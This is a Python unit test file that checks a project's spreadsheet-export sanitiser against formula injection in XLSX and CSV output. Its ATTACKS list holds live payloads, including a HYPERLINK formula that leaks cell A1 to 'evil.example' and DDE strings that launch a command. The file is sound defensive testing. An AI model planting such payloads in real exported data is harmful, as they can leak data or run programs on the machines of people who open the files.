"""Formula injection: text cells that a spreadsheet would run are neutralised."""

import csv
import datetime
import decimal
import io

import pytest
from openpyxl import Workbook, load_workbook

from ocop.core.exports import safe_cell, safe_row

pytestmark = pytest.mark.unit

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_is_prefixed(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Kẹo dừa Bến Tre",
        "HTX 3-5 sao",
        "",
        None,
        3,
        -5,
        4.5,
        decimal.Decimal("-1.5"),
        datetime.date(2025, 7, 1),
        True,
    ],
)
def test_ordinary_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_xlsx_export_keeps_attacks_as_text():
    book = Workbook()
    book.active.append(safe_row([ATTACKS[0], -5, "Kẹo dừa"]))
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    cell = load_workbook(out).active["A1"]
    assert (cell.data_type, cell.value) == ("s", "'" + ATTACKS[0])
    assert load_workbook(io.BytesIO(out.getvalue())).active["B1"].value == -5


def test_csv_export_keeps_attacks_as_text():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(ATTACKS[:2]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + ATTACKS[0], "'" + ATTACKS[1]]
